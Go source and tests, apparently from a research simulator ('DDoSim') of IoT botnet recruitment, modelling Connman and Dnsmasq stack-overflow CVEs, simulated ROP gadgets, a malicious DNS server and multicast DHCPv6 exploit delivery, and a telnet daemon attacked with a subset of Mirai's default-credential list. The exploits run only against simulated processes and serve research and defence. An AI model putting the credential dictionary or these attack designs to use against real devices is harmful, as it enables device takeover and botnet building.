	// ignored (the daemon matches IDs like a real resolver).
	r := newRig(t)
	server := r.star.AttachHost("dns", 10*netsim.Mbps, sim.Millisecond, 0)
	chain, err := exploit.ForBinary(imagecat.BinConnman, "http://10.9.9.9/x")
	if err != nil {
		t.Fatal(err)
	}
	var sock *netsim.UDPSocket
	sock, err = server.BindUDP(53, func(src netip.AddrPort, payload []byte, _ int) {
		q, derr := dnsmsg.Decode(payload)
		if derr != nil {
			return
		}
		q.ID ^= 0xffff // wrong ID
		sock.SendTo(src, dnsmsg.NewResponse(q, dnsmsg.TypeA, 300, chain).Encode())
	})
	if err != nil {
		t.Fatal(err)
	}
	c := r.devContainer(t, "dev")
	c.FS().Write("/etc/resolv.conf", []byte("nameserver "+server.Addr4().String()+"\n"))
	attempts := 0
	d := New(Config{
		QueryPeriod: 3 * sim.Second,
		OnOutcome:   func(procvm.HijackOutcome) { attempts++ },
	})
	c.Spawn(d)
	if err := r.sched.Run(sim.Minute); err != nil {
		t.Fatal(err)
	}
	if attempts != 0 {
		t.Fatalf("mismatched-ID response parsed %d times", attempts)
	}
	if d.Proc() == nil || !d.Proc().Alive() {
		t.Fatal("daemon died")
	}
}

func TestFactoryAndName(t *testing.T) {
	b := Factory(Config{})(nil)
	if b.Name() != imagecat.BinConnman {
		t.Fatalf("name = %q", b.Name())
	}
}
