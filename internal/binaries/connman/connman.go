// Package connman simulates the Connman network-management daemon as
// it matters to the experiment: a DNS-proxy client that periodically
// resolves a hostname against the nameserver configured in
// /etc/resolv.conf and parses the response through a fixed 64-byte
// stack buffer without a bounds check — CVE-2017-12865. A malicious
// DNS server that answers with an oversized RDATA overwrites the
// daemon's return address.
package connman

import (
	"net/netip"
	"strings"

	"ddosim/internal/binaries/image"
	"ddosim/internal/container"
	"ddosim/internal/dnsmsg"
	"ddosim/internal/netsim"
	"ddosim/internal/procvm"
	"ddosim/internal/sim"
)

// DefaultQueryPeriod is how often connmand re-resolves its
// connectivity-check hostname.
const DefaultQueryPeriod = 10 * sim.Second

// DefaultHostname is the name the daemon resolves, mirroring
// Connman's connectivity check.
const DefaultHostname = "connectivity-check.connman.net"

// Config parameterizes a daemon instance.
type Config struct {
	// Protections are the Dev's memory defenses (§III-B: a random
	// subset of W^X and ASLR per device).
	Protections procvm.Protections
	// QueryPeriod overrides DefaultQueryPeriod when positive.
	QueryPeriod sim.Time
	// Hostname overrides DefaultHostname when non-empty.
	Hostname string
	// Program overrides the default vulnerable binary image, e.g. the
	// hardened PIE rebuild.
	Program *procvm.Program
	// OnOutcome observes every parse of untrusted input (used by the
	// experiment harness to count exploit attempts/crashes).
	OnOutcome func(procvm.HijackOutcome)
}

// Daemon is the connmand process behaviour.
type Daemon struct {
	cfg       Config
	p         *container.Process
	proc      *procvm.Proc
	sock      *netsim.UDPSocket
	server    netip.AddrPort
	hasDNS    bool
	nextID    uint16
	pendingID uint16

	// Counters for test and experiment introspection.
	QueriesSent   uint64
	ResponsesSeen uint64
}

var _ container.Behavior = (*Daemon)(nil)

// New creates the behaviour; the engine's binary registry calls this
// through Factory.
func New(cfg Config) *Daemon {
	if cfg.QueryPeriod <= 0 {
		cfg.QueryPeriod = DefaultQueryPeriod
	}
	if cfg.Hostname == "" {
		cfg.Hostname = DefaultHostname
	}
	if cfg.Program == nil {
		cfg.Program = image.Connman()
	}
	return &Daemon{cfg: cfg}
}

// Factory adapts New to the container runtime's registry.
func Factory(cfg Config) container.BehaviorFactory {
	return func(args []string) container.Behavior { return New(cfg) }
}

// Name implements container.Behavior.
func (d *Daemon) Name() string { return image.BinConnman }

// Proc exposes the daemon's simulated process (tests inspect it).
func (d *Daemon) Proc() *procvm.Proc { return d.proc }

// Start implements container.Behavior.
func (d *Daemon) Start(p *container.Process) {
	d.p = p
	d.proc = procvm.NewProc(d.cfg.Program, d.cfg.Protections, p.RNG(), p.Container().ProcOS(p))

	d.server, d.hasDNS = resolvConf(p.Container())
	if !d.hasDNS {
		p.Logf("connmand: no nameserver configured; idle")
		return
	}
	sock, err := p.BindUDP(0, d.onDatagram)
	if err != nil {
		p.Logf("connmand: bind: %v", err)
		return
	}
	d.sock = sock

	// Jitter the first query so a fleet of Devs does not synchronize.
	jitter := sim.Time(p.RNG().Int63n(int64(d.cfg.QueryPeriod)))
	ticker := p.NewTicker(d.cfg.QueryPeriod, d.query)
	p.Sched().Schedule(jitter, func() {
		if !p.Alive() {
			return
		}
		d.query()
		ticker.Start()
	})
}

// Stop implements container.Behavior.
func (d *Daemon) Stop(*container.Process) {}

// resolvConf parses the container's /etc/resolv.conf. The paper
// manually points Devs at the malicious DNS server (§V-C).
func resolvConf(c *container.Container) (netip.AddrPort, bool) {
	data, ok := c.FS().Read("/etc/resolv.conf")
	if !ok {
		return netip.AddrPort{}, false
	}
	for _, line := range strings.Split(string(data), "\n") {
		fields := strings.Fields(line)
		if len(fields) == 2 && fields[0] == "nameserver" {
			if a, err := netip.ParseAddr(fields[1]); err == nil {
				return netip.AddrPortFrom(a, 53), true
			}
		}
	}
	return netip.AddrPort{}, false
}

func (d *Daemon) query() {
	if !d.p.Alive() || d.sock == nil {
		return
	}
	d.nextID++
	d.pendingID = d.nextID
	q := dnsmsg.NewQuery(d.pendingID, d.cfg.Hostname, dnsmsg.TypeA)
	d.QueriesSent++
	d.sock.SendTo(d.server, q.Encode())
}

func (d *Daemon) onDatagram(src netip.AddrPort, payload []byte, _ int) {
	if !d.p.Alive() {
		return
	}
	msg, err := dnsmsg.Decode(payload)
	if err != nil || !msg.IsResponse() || msg.ID != d.pendingID {
		return
	}
	d.ResponsesSeen++
	if len(msg.Answers) == 0 {
		return
	}
	// CVE-2017-12865: the RDATA is copied into a fixed stack buffer.
	out := d.proc.ParseUntrusted(msg.Answers[0].Data, image.ConnmanBufSize)
	if d.cfg.OnOutcome != nil {
		d.cfg.OnOutcome(out)
	}
	if out.Crashed() {
		d.p.Logf("connmand: segfault parsing DNS response: %v", out.Fault)
		d.p.Exit(139)
	}
}
