package telnetd

import (
	"fmt"
	"net/netip"
	"strings"
	"testing"

	"ddosim/internal/container"
	"ddosim/internal/netsim"
	"ddosim/internal/sim"
)

type rig struct {
	sched  *sim.Scheduler
	star   *netsim.Star
	engine *container.Engine
}

func newRig(t testing.TB) *rig {
	t.Helper()
	sched := sim.NewScheduler(23)
	w := netsim.New(sched)
	star := netsim.NewStar(w)
	return &rig{sched: sched, star: star, engine: container.NewEngine(sched, star)}
}

func (r *rig) deploy(t *testing.T, cfg Config) (*container.Container, *Daemon) {
	t.Helper()
	img := &container.Image{
		Name: "ddosim/bb", Tag: "t", Arch: "x86_64",
		Files:     map[string][]byte{"/bin/telnetd": container.BinaryContent("telnetd", "x86_64")},
		ExecPaths: map[string]bool{"/bin/telnetd": true},
	}
	r.engine.RegisterImage(img)
	c, err := r.engine.Create(img.Ref(), "dev", container.LinkConfig{
		Rate: 500 * netsim.Kbps, Delay: sim.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	d := New(cfg)
	c.Spawn(d)
	return c, d
}

var clientSeq int

// telnetClient drives a scripted session and records the transcript.
func telnetClient(t *testing.T, r *rig, dst netip.AddrPort, lines []string) *strings.Builder {
	t.Helper()
	clientSeq++
	client := r.star.AttachHost(fmt.Sprintf("client-%d", clientSeq), 10*netsim.Mbps, sim.Millisecond, 0)
	var transcript strings.Builder
	sent := 0
	client.DialTCP(dst, func(c *netsim.TCPConn, err error) {
		if err != nil {
			t.Errorf("dial: %v", err)
			return
		}
		c.SetDataHandler(func(data []byte) {
			transcript.Write(data)
			text := transcript.String()
			prompts := strings.Count(text, "login: ") + strings.Count(text, "Password: ") + strings.Count(text, "$ ")
			for sent < len(lines) && prompts > sent {
				_ = c.Send([]byte(lines[sent] + "\n"))
				sent++
			}
		})
	})
	return &transcript
}

func TestSuccessfulLogin(t *testing.T) {
	r := newRig(t)
	c, d := r.deploy(t, Config{Cred: Cred{User: "root", Pass: "xc3511"}})
	dst := netip.AddrPortFrom(c.Node().Addr4(), 23)
	tr := telnetClient(t, r, dst, []string{"root", "xc3511", "echo hi"})
	if err := r.sched.Run(sim.Minute); err != nil {
		t.Fatal(err)
	}
	out := tr.String()
	if !strings.Contains(out, "BusyBox") {
		t.Fatalf("no shell banner: %q", out)
	}
	if d.Logins != 1 {
		t.Fatalf("logins = %d", d.Logins)
	}
	// Shell prompt returned after the command.
	if strings.Count(out, "$ ") < 2 {
		t.Fatalf("command did not complete: %q", out)
	}
}

func TestWrongPasswordRetriesThenDrops(t *testing.T) {
	r := newRig(t)
	c, d := r.deploy(t, Config{Cred: Cred{User: "root", Pass: "secret"}})
	dst := netip.AddrPortFrom(c.Node().Addr4(), 23)
	tr := telnetClient(t, r, dst, []string{"root", "bad1", "root", "bad2", "root", "bad3"})
	if err := r.sched.Run(sim.Minute); err != nil {
		t.Fatal(err)
	}
	out := tr.String()
	if strings.Contains(out, "BusyBox") {
		t.Fatal("shell granted with wrong password")
	}
	if got := strings.Count(out, "Login incorrect"); got != maxAttempts {
		t.Fatalf("incorrect notices = %d, want %d", got, maxAttempts)
	}
	if d.Logins != 0 || d.LoginAttempts != maxAttempts {
		t.Fatalf("logins=%d attempts=%d", d.Logins, d.LoginAttempts)
	}
}

func TestStrongCredDefaultsAndCallbacks(t *testing.T) {
	r := newRig(t)
	logins := 0
	c, _ := r.deploy(t, Config{OnLogin: func(string) { logins++ }})
	dst := netip.AddrPortFrom(c.Node().Addr4(), 23)
	// The whole Mirai dictionary must fail against StrongCred.
	for _, cred := range MiraiDictionary[:4] {
		telnetClient(t, r, dst, []string{cred.User, cred.Pass})
	}
	if err := r.sched.Run(2 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	if logins != 0 {
		t.Fatal("dictionary cracked the strong credential")
	}
	// And the strong credential itself works.
	tr := telnetClient(t, r, dst, []string{StrongCred.User, StrongCred.Pass})
	if err := r.sched.Run(r.sched.Now() + sim.Minute); err != nil {
		t.Fatal(err)
	}
	if logins != 1 || !strings.Contains(tr.String(), "BusyBox") {
		t.Fatalf("strong login failed: logins=%d", logins)
	}
}

func TestShellRunsContainerCommands(t *testing.T) {
	r := newRig(t)
	c, _ := r.deploy(t, Config{Cred: Cred{User: "u", Pass: "p"}})
	c.FS().Write("/tmp/junk", []byte("x"))
	dst := netip.AddrPortFrom(c.Node().Addr4(), 23)
	telnetClient(t, r, dst, []string{"u", "p", "rm /tmp/junk", "exit"})
	if err := r.sched.Run(sim.Minute); err != nil {
		t.Fatal(err)
	}
	if c.FS().Exists("/tmp/junk") {
		t.Fatal("telnet shell command did not execute")
	}
}

func TestShellReportsErrors(t *testing.T) {
	r := newRig(t)
	c, _ := r.deploy(t, Config{Cred: Cred{User: "u", Pass: "p"}})
	dst := netip.AddrPortFrom(c.Node().Addr4(), 23)
	tr := telnetClient(t, r, dst, []string{"u", "p", "rm /no/such/file"})
	if err := r.sched.Run(sim.Minute); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(tr.String(), "sh: ") {
		t.Fatalf("shell error not surfaced: %q", tr.String())
	}
}

func TestDictionaryQuality(t *testing.T) {
	if len(MiraiDictionary) < 10 {
		t.Fatalf("dictionary has %d entries", len(MiraiDictionary))
	}
	seen := map[Cred]bool{}
	for _, c := range MiraiDictionary {
		if c.User == "" || c.Pass == "" {
			t.Fatalf("empty credential %+v", c)
		}
		if seen[c] {
			t.Fatalf("duplicate credential %+v", c)
		}
		seen[c] = true
		if c == StrongCred {
			t.Fatal("strong credential appears in the dictionary")
		}
	}
}

func TestFactoryAndName(t *testing.T) {
	b := Factory(Config{})(nil)
	if b.Name() != "telnetd" {
		t.Fatalf("name = %q", b.Name())
	}
}
