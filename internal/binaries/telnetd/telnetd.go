// Package telnetd simulates the BusyBox telnet daemon found on the
// IoT devices the original Mirai preyed on: a TCP listener on port 23
// guarded only by a username/password pair, giving a shell on
// success. It exists so DDoSim can reproduce the paper's *baseline*
// recruitment vector — dictionary attacks against default
// credentials — and contrast it with the memory-error vector the
// paper advocates studying (§I, R1).
package telnetd

import (
	"strings"

	"ddosim/internal/binaries/image"
	"ddosim/internal/container"
	"ddosim/internal/netsim"
)

// Cred is one username/password pair.
type Cred struct {
	User string
	Pass string
}

// MiraiDictionary is a subset of the credential list shipped in
// Mirai's scanner.c — the factory defaults that built the original
// botnet.
var MiraiDictionary = []Cred{
	{"root", "xc3511"},
	{"root", "vizxv"},
	{"root", "admin"},
	{"admin", "admin"},
	{"root", "888888"},
	{"root", "default"},
	{"root", "54321"},
	{"support", "support"},
	{"root", "root"},
	{"user", "user"},
	{"admin", "password"},
	{"root", "12345"},
}

// StrongCred is a credential outside every dictionary — what a vendor
// complying with the IoT security legislation the paper cites (§I)
// would ship.
var StrongCred = Cred{User: "admin", Pass: "T7#kV9!mQ2$xW5pL"}

// maxAttempts is how many login attempts one connection gets before
// the daemon drops it, as BusyBox telnetd does.
const maxAttempts = 3

// Config parameterizes the daemon.
type Config struct {
	// Cred is the device's login. Zero value means StrongCred.
	Cred Cred
	// OnLogin observes successful logins (the experiment harness
	// counts compromises through this).
	OnLogin func(user string)
}

// Daemon is the telnetd process behaviour.
type Daemon struct {
	cfg Config
	p   *container.Process

	// Counters for tests and experiments.
	LoginAttempts uint64
	Logins        uint64
}

var _ container.Behavior = (*Daemon)(nil)

// New creates the behaviour.
func New(cfg Config) *Daemon {
	if cfg.Cred == (Cred{}) {
		cfg.Cred = StrongCred
	}
	return &Daemon{cfg: cfg}
}

// Factory adapts New to the binary registry.
func Factory(cfg Config) container.BehaviorFactory {
	return func(args []string) container.Behavior { return New(cfg) }
}

// Name implements container.Behavior.
func (d *Daemon) Name() string { return image.BinTelnetd }

// Start implements container.Behavior.
func (d *Daemon) Start(p *container.Process) {
	d.p = p
	if _, err := p.ListenTCP(23, d.accept); err != nil {
		p.Logf("telnetd: %v", err)
	}
}

// Stop implements container.Behavior.
func (d *Daemon) Stop(*container.Process) {}

type session struct {
	d        *Daemon
	conn     *netsim.TCPConn
	buf      []byte
	state    int // 0=user, 1=pass, 2=shell
	user     string
	attempts int
}

func (d *Daemon) accept(conn *netsim.TCPConn) {
	s := &session{d: d, conn: conn}
	_ = conn.Send([]byte("login: "))
	conn.SetDataHandler(s.onData)
}

func (s *session) onData(data []byte) {
	s.buf = append(s.buf, data...)
	for {
		idx := strings.IndexByte(string(s.buf), '\n')
		if idx < 0 {
			return
		}
		line := strings.TrimRight(string(s.buf[:idx]), "\r")
		s.buf = s.buf[idx+1:]
		s.onLine(line)
	}
}

func (s *session) onLine(line string) {
	switch s.state {
	case 0:
		s.user = line
		s.state = 1
		_ = s.conn.Send([]byte("Password: "))
	case 1:
		s.d.LoginAttempts++
		if s.user == s.d.cfg.Cred.User && line == s.d.cfg.Cred.Pass {
			s.state = 2
			s.d.Logins++
			if s.d.cfg.OnLogin != nil {
				s.d.cfg.OnLogin(s.user)
			}
			_ = s.conn.Send([]byte("BusyBox v1.19.3 built-in shell (ash)\n$ "))
			return
		}
		s.attempts++
		if s.attempts >= maxAttempts {
			_ = s.conn.Send([]byte("Login incorrect\n"))
			s.conn.Close()
			return
		}
		s.state = 0
		_ = s.conn.Send([]byte("Login incorrect\nlogin: "))
	case 2:
		s.shellLine(line)
	}
}

// shellLine executes one shell command for an authenticated session —
// how Mirai's loader drives its infection one-liner.
func (s *session) shellLine(line string) {
	if line == "exit" || line == "logout" {
		_ = s.conn.Send([]byte("$ \n"))
		s.conn.Close()
		return
	}
	if strings.TrimSpace(line) == "" {
		_ = s.conn.Send([]byte("$ "))
		return
	}
	conn := s.conn
	s.d.p.Container().RunShell(line, func(err error) {
		if err != nil {
			_ = conn.Send([]byte("sh: " + err.Error() + "\n$ "))
			return
		}
		_ = conn.Send([]byte("$ "))
	})
}
