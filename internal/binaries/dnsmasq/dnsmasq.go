// Package dnsmasq simulates the Dnsmasq daemon as it matters to the
// experiment: a DHCPv6 server listening on UDP 547 (joined to the
// ff02::1:2 All-DHCP-Relay-Agents-and-Servers group) whose RELAY-FORW
// handler copies the relay-message option into a fixed stack buffer —
// CVE-2017-14493. A crafted multicast RELAY-FORW reaches every
// listening Dev at once, which is precisely why the paper's attacker
// exploits it over multicast.
package dnsmasq

import (
	"net/netip"

	"ddosim/internal/binaries/image"
	"ddosim/internal/container"
	"ddosim/internal/dhcpv6"
	"ddosim/internal/netsim"
	"ddosim/internal/procvm"
)

// Config parameterizes a daemon instance.
type Config struct {
	// Protections are the Dev's memory defenses.
	Protections procvm.Protections
	// Program overrides the default vulnerable image.
	Program *procvm.Program
	// OnOutcome observes every parse of untrusted input.
	OnOutcome func(procvm.HijackOutcome)
}

// Daemon is the dnsmasq process behaviour.
type Daemon struct {
	cfg  Config
	p    *container.Process
	proc *procvm.Proc
	sock *netsim.UDPSocket

	// Counters for tests and experiments.
	RelayForwSeen uint64
	BenignSeen    uint64
}

var _ container.Behavior = (*Daemon)(nil)

// New creates the behaviour.
func New(cfg Config) *Daemon {
	if cfg.Program == nil {
		cfg.Program = image.Dnsmasq()
	}
	return &Daemon{cfg: cfg}
}

// Factory adapts New to the container runtime's registry.
func Factory(cfg Config) container.BehaviorFactory {
	return func(args []string) container.Behavior { return New(cfg) }
}

// Name implements container.Behavior.
func (d *Daemon) Name() string { return image.BinDnsmasq }

// Proc exposes the daemon's simulated process.
func (d *Daemon) Proc() *procvm.Proc { return d.proc }

// Start implements container.Behavior.
func (d *Daemon) Start(p *container.Process) {
	d.p = p
	d.proc = procvm.NewProc(d.cfg.Program, d.cfg.Protections, p.RNG(), p.Container().ProcOS(p))
	p.Node().JoinMulticast(dhcpv6.AllRelayAgentsAndServers)
	sock, err := p.BindUDP(dhcpv6.ServerPort, d.onDatagram)
	if err != nil {
		p.Logf("dnsmasq: bind 547: %v", err)
		return
	}
	d.sock = sock
}

// Stop implements container.Behavior.
func (d *Daemon) Stop(p *container.Process) {
	p.Node().LeaveMulticast(dhcpv6.AllRelayAgentsAndServers)
}

func (d *Daemon) onDatagram(src netip.AddrPort, payload []byte, _ int) {
	if !d.p.Alive() {
		return
	}
	if len(payload) == 0 {
		return
	}
	if payload[0] != dhcpv6.TypeRelayForw {
		d.BenignSeen++
		return
	}
	msg, err := dhcpv6.DecodeRelayForw(payload)
	if err != nil {
		return
	}
	d.RelayForwSeen++
	relay, ok := msg.Option(dhcpv6.OptRelayMsg)
	if !ok {
		return
	}
	// CVE-2017-14493: the relay message is copied into a fixed stack
	// buffer while reconstructing relay state.
	out := d.proc.ParseUntrusted(relay, image.DnsmasqBufSize)
	if d.cfg.OnOutcome != nil {
		d.cfg.OnOutcome(out)
	}
	if out.Crashed() {
		d.p.Logf("dnsmasq: segfault in dhcp6_maybe_relay: %v", out.Fault)
		d.p.Exit(139)
	}
}
