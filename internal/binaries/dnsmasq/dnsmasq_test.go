package dnsmasq

import (
	"net/netip"
	"testing"

	imagecat "ddosim/internal/binaries/image"
	"ddosim/internal/container"
	"ddosim/internal/dhcpv6"
	"ddosim/internal/exploit"
	"ddosim/internal/netsim"
	"ddosim/internal/procvm"
	"ddosim/internal/sim"
)

type rig struct {
	sched  *sim.Scheduler
	star   *netsim.Star
	engine *container.Engine
}

func newRig(t testing.TB) *rig {
	t.Helper()
	sched := sim.NewScheduler(19)
	w := netsim.New(sched)
	star := netsim.NewStar(w)
	return &rig{sched: sched, star: star, engine: container.NewEngine(sched, star)}
}

func (r *rig) devContainer(t *testing.T, name string) *container.Container {
	t.Helper()
	img := &container.Image{
		Name: "ddosim/dt-" + name, Tag: "t", Arch: "x86_64",
		Files:     map[string][]byte{"/usr/sbin/dnsmasq": container.BinaryContent(imagecat.BinDnsmasq, "x86_64")},
		ExecPaths: map[string]bool{"/usr/sbin/dnsmasq": true},
	}
	r.engine.RegisterImage(img)
	c, err := r.engine.Create(img.Ref(), name, container.LinkConfig{
		Rate: 300 * netsim.Kbps, Delay: sim.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	return c
}

func multicastDst() netip.AddrPort {
	return netip.AddrPortFrom(dhcpv6.AllRelayAgentsAndServers, dhcpv6.ServerPort)
}

func TestJoinsMulticastAndCountsRelayForw(t *testing.T) {
	r := newRig(t)
	c := r.devContainer(t, "dev")
	d := New(Config{Protections: procvm.Protections{WX: true}})
	c.Spawn(d)
	if !c.Node().HasAddr(c.Node().Addr6()) {
		t.Fatal("no v6 addr")
	}

	sender := r.star.AttachHost("sender", 10*netsim.Mbps, sim.Millisecond, 0)
	sock, err := sender.BindUDP(0, nil)
	if err != nil {
		t.Fatal(err)
	}
	// A benign SOLICIT and a relay-forw without the relay-msg option:
	// both must be harmless.
	sock.SendTo(multicastDst(), []byte{dhcpv6.TypeSolicit, 0, 0, 1})
	empty := &dhcpv6.RelayForw{LinkAddr: sender.Addr6(), PeerAddr: sender.Addr6()}
	sock.SendTo(multicastDst(), empty.Encode())
	if err := r.sched.Run(10 * sim.Second); err != nil {
		t.Fatal(err)
	}
	if d.BenignSeen != 1 {
		t.Fatalf("benign datagrams = %d", d.BenignSeen)
	}
	if d.RelayForwSeen != 1 {
		t.Fatalf("relay-forw seen = %d", d.RelayForwSeen)
	}
	if d.Proc() == nil || !d.Proc().Alive() {
		t.Fatal("daemon died on benign traffic")
	}
}

func TestExploitViaMulticast(t *testing.T) {
	r := newRig(t)
	c := r.devContainer(t, "dev")
	var out procvm.HijackOutcome
	d := New(Config{
		Protections: procvm.Protections{WX: true, ASLR: true},
		OnOutcome:   func(o procvm.HijackOutcome) { out = o },
	})
	c.Spawn(d)

	sender := r.star.AttachHost("sender", 10*netsim.Mbps, sim.Millisecond, 0)
	sock, err := sender.BindUDP(0, nil)
	if err != nil {
		t.Fatal(err)
	}
	chain, err := exploit.ForBinary(imagecat.BinDnsmasq, "http://10.9.9.9/x")
	if err != nil {
		t.Fatal(err)
	}
	msg := dhcpv6.NewRelayForw(sender.Addr6(), sender.Addr6(), chain)
	sock.SendTo(multicastDst(), msg.Encode())
	if err := r.sched.Run(10 * sim.Second); err != nil {
		t.Fatal(err)
	}
	if !out.Hijacked || out.ExecutedShell == "" {
		t.Fatalf("outcome = %+v", out)
	}
}

func TestLeaveMulticastOnKill(t *testing.T) {
	r := newRig(t)
	c := r.devContainer(t, "dev")
	d := New(Config{})
	p := c.Spawn(d)
	group := dhcpv6.AllRelayAgentsAndServers

	c.Kill(p.PID())
	// After the kill, further multicast must not be parsed.
	sender := r.star.AttachHost("sender", 10*netsim.Mbps, sim.Millisecond, 0)
	sock, err := sender.BindUDP(0, nil)
	if err != nil {
		t.Fatal(err)
	}
	sock.SendTo(multicastDst(), []byte{dhcpv6.TypeSolicit})
	if err := r.sched.Run(5 * sim.Second); err != nil {
		t.Fatal(err)
	}
	if d.BenignSeen != 0 {
		t.Fatal("dead daemon parsed traffic")
	}
	_ = group
}

func TestTruncatedRelayForwIgnored(t *testing.T) {
	r := newRig(t)
	c := r.devContainer(t, "dev")
	var outcomes int
	d := New(Config{OnOutcome: func(procvm.HijackOutcome) { outcomes++ }})
	c.Spawn(d)
	sender := r.star.AttachHost("sender", 10*netsim.Mbps, sim.Millisecond, 0)
	sock, err := sender.BindUDP(0, nil)
	if err != nil {
		t.Fatal(err)
	}
	sock.SendTo(multicastDst(), []byte{dhcpv6.TypeRelayForw, 0, 1}) // truncated
	sock.SendTo(multicastDst(), nil)                                // empty
	if err := r.sched.Run(5 * sim.Second); err != nil {
		t.Fatal(err)
	}
	if outcomes != 0 {
		t.Fatalf("truncated messages parsed %d times", outcomes)
	}
	if !d.Proc().Alive() {
		t.Fatal("daemon died on truncated input")
	}
}

func TestFactoryAndName(t *testing.T) {
	b := Factory(Config{})(nil)
	if b.Name() != imagecat.BinDnsmasq {
		t.Fatalf("name = %q", b.Name())
	}
}
