package image

import (
	"testing"

	"ddosim/internal/procvm"
)

func TestCatalogInvariants(t *testing.T) {
	for _, prog := range []*procvm.Program{Connman(), Dnsmasq()} {
		if prog.PIE {
			t.Errorf("%s: stock IoT builds must be non-PIE", prog.Name)
		}
		if prog.LinkBase == 0 || prog.TextSize == 0 {
			t.Errorf("%s: missing layout", prog.Name)
		}
		if prog.RetSite == 0 || prog.RetSite >= prog.TextSize {
			t.Errorf("%s: ret site %#x outside text", prog.Name, prog.RetSite)
		}
		for off, g := range prog.Gadgets {
			if off >= prog.TextSize {
				t.Errorf("%s: gadget %q at %#x outside text (%#x)", prog.Name, g.Name, off, prog.TextSize)
			}
			if len(g.Ops) == 0 {
				t.Errorf("%s: gadget %q has no ops", prog.Name, g.Name)
			}
		}
		for _, want := range []string{GadgetLeaRDIRSP, GadgetExecShell, GadgetPopRDI, GadgetExit} {
			if _, ok := prog.GadgetOffset(want); !ok {
				t.Errorf("%s: missing gadget %q", prog.Name, want)
			}
		}
		if prog.SizeBytes <= 0 {
			t.Errorf("%s: zero size", prog.Name)
		}
	}
}

func TestGadgetOffsetsDifferAcrossBinaries(t *testing.T) {
	// Cross-binary chains must not work by accident: the critical
	// gadgets must live at different offsets.
	c, d := Connman(), Dnsmasq()
	for _, name := range []string{GadgetLeaRDIRSP, GadgetExecShell} {
		co, _ := c.GadgetOffset(name)
		do, _ := d.GadgetOffset(name)
		if co == do {
			t.Errorf("gadget %q at identical offset %#x in both binaries", name, co)
		}
	}
}

func TestHardenedVariants(t *testing.T) {
	hc, hd := HardenedConnman(), HardenedDnsmasq()
	if !hc.PIE || !hd.PIE {
		t.Fatal("hardened builds not PIE")
	}
	// Hardening must not mutate the stock catalog entries.
	if Connman().PIE || Dnsmasq().PIE {
		t.Fatal("hardening mutated the stock programs")
	}
	if hc.Name == Connman().Name {
		t.Fatal("hardened build shares the stock name")
	}
}

func TestByName(t *testing.T) {
	if p, ok := ByName(BinConnman); !ok || p.Name != "connmand-1.34" {
		t.Fatalf("ByName(connman) = %v %v", p, ok)
	}
	if p, ok := ByName(BinDnsmasq); !ok || p.Name != "dnsmasq-2.77" {
		t.Fatalf("ByName(dnsmasq) = %v %v", p, ok)
	}
	if _, ok := ByName("unknown"); ok {
		t.Fatal("unknown binary resolved")
	}
}

func TestBufferSizes(t *testing.T) {
	if ConnmanBufSize != 64 || DnsmasqBufSize != 96 {
		t.Fatalf("buffer sizes = %d/%d", ConnmanBufSize, DnsmasqBufSize)
	}
}

func TestArchitecturesListed(t *testing.T) {
	if len(Architectures) < 3 {
		t.Fatalf("architectures = %v", Architectures)
	}
	seen := map[string]bool{}
	for _, a := range Architectures {
		if seen[a] {
			t.Fatalf("duplicate arch %q", a)
		}
		seen[a] = true
	}
	if !seen["x86_64"] {
		t.Fatal("x86_64 missing (the experiment series uses it exclusively)")
	}
}
