// Package image catalogs the synthetic binary images of the IoT
// daemons used in the experiment series. Each Program mirrors the
// properties the exploit depends on in the real binaries: non-PIE
// linking (typical of IoT builds), a known vulnerable stack buffer
// size, and a harvestable set of ROP gadgets at fixed text offsets.
// The attacker is assumed to possess these images and analyze them
// offline, exactly as in §III-B of the paper.
package image

import "ddosim/internal/procvm"

// Canonical gadget names the exploit builder searches for.
const (
	GadgetLeaRDIRSP = "lea_rdi_rsp_ret" // lea rdi,[rsp+K]; ret
	GadgetExecShell = "exec_shell"      // execlp("sh","sh","-c",rdi,0)
	GadgetPopRDI    = "pop_rdi_ret"
	GadgetExit      = "sys_exit"
)

// Vulnerable stack buffer sizes (bytes), fixed by the respective CVEs'
// code paths.
const (
	// ConnmanBufSize is the DNS-proxy hostname buffer overflowed by
	// CVE-2017-12865.
	ConnmanBufSize = 64
	// DnsmasqBufSize is the DHCPv6 state buffer overflowed by
	// CVE-2017-14493.
	DnsmasqBufSize = 96
)

// Binary names as they appear in simulated ELF headers.
const (
	BinConnman = "connmand"
	BinDnsmasq = "dnsmasq"
	BinMirai   = "mirai"
	BinBusybox = "busybox"
	BinTelnetd = "telnetd"
)

// Architectures supported by the Buildx pipeline.
var Architectures = []string{"x86_64", "arm7", "mips"}

// Connman returns the program image of the vulnerable connmand 1.34
// build (CVE-2017-12865). Non-PIE at the classic 0x400000 base.
func Connman() *procvm.Program {
	return &procvm.Program{
		Name:     "connmand-1.34",
		Arch:     "x86_64",
		PIE:      false,
		LinkBase: 0x400000,
		TextSize: 0x9a000,
		RetSite:  0x21b40, // dnsproxy.c uncompress() return site
		Gadgets: map[uint64]procvm.Gadget{
			0x18c20: {Name: GadgetExecShell, Ops: []procvm.Op{procvm.OpSysExecShell{}}},
			0x21f3a: {Name: GadgetLeaRDIRSP, Ops: []procvm.Op{procvm.OpLeaStack{Reg: procvm.RDI, Off: 8}}},
			0x0a3c1: {Name: GadgetPopRDI, Ops: []procvm.Op{procvm.OpPop{Reg: procvm.RDI}}},
			0x05b10: {Name: GadgetExit, Ops: []procvm.Op{procvm.OpSysExit{}}},
			0x33333: {Name: "misaligned_junk", Ops: []procvm.Op{procvm.OpCrash{}}},
		},
		SizeBytes: 712 * 1024,
	}
}

// Dnsmasq returns the program image of the vulnerable dnsmasq 2.77
// build (CVE-2017-14493). Distinct gadget offsets: a chain built for
// Connman's layout crashes here, as it would in reality.
func Dnsmasq() *procvm.Program {
	return &procvm.Program{
		Name:     "dnsmasq-2.77",
		Arch:     "x86_64",
		PIE:      false,
		LinkBase: 0x400000,
		TextSize: 0x6e000,
		RetSite:  0x153c8, // rfc3315.c dhcp6_maybe_relay() return site
		Gadgets: map[uint64]procvm.Gadget{
			0x0f411: {Name: GadgetExecShell, Ops: []procvm.Op{procvm.OpSysExecShell{}}},
			0x2a9e6: {Name: GadgetLeaRDIRSP, Ops: []procvm.Op{procvm.OpLeaStack{Reg: procvm.RDI, Off: 16}}},
